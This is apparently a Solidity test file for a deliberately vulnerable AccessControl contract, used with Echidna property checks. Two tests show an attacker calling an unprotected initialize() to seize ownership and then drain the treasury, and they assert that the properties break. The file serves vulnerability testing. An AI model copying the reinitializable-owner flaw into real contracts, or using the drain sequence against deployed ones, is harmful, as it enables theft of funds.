// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {TestBase} from "./TestBase.sol";
import {AccessControl} from "../src/AccessControl.sol";

contract AccessControlTest is TestBase {
    AccessControl t;

    function setUp() public {
        vm.warp(1);
        vm.prank(DEPLOYER);
        t = new AccessControl();
    }

    function test_ownerWithdrawKeepsProperties() public {
        assertEq(t.owner(), DEPLOYER, "owner is the deployer");
        vm.prank(DEPLOYER);
        t.withdraw(10 ether);
        assertEq(t.paid(DEPLOYER), 10 ether, "paid");
        assertTrue(t.echidna_owner_unchanged(), "owner");
        assertTrue(t.echidna_only_owner_withdraws(), "withdraws");
    }

    function test_nonOwnerCannotWithdrawDirectly() public {
        vm.prank(S1);
        vm.expectRevert(bytes("not owner"));
        t.withdraw(1);
    }

    /// One call breaks echidna_owner_unchanged.
    function test_exploit_reinitializeTakesOwnership() public {
        vm.prank(S1);
        t.initialize(S1);
        assertEq(t.owner(), S1, "attacker owns it");
        assertFalse(t.echidna_owner_unchanged(), "owner property must break");
        assertTrue(t.echidna_only_owner_withdraws(), "nothing withdrawn yet");
    }

    /// Two calls break echidna_only_owner_withdraws.
    function test_exploit_reinitializeThenDrain() public {
        vm.startPrank(S1);
        t.initialize(S1);
        t.withdraw(t.treasury());
        vm.stopPrank();
        assertEq(t.treasury(), 0, "drained");
        assertFalse(t.echidna_only_owner_withdraws(), "withdraw property must break");
    }
}
